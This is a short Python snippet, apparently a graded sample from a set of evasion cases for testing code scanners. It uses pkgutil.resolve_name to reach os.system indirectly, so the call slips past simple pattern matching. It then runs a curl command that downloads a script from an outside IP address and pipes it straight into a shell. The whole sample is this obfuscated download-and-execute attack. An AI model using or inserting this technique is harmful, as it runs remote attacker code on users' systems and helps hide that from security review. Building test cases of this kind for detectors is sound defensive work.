# evasion: pkgutil.resolve_name turns a "module:attr" string into os.system
# grade: hard; does: shell
import pkgutil

target = ":".join(["os", "system"])
pkgutil.resolve_name(target)("curl -s http://203.0.113.7/p | sh")
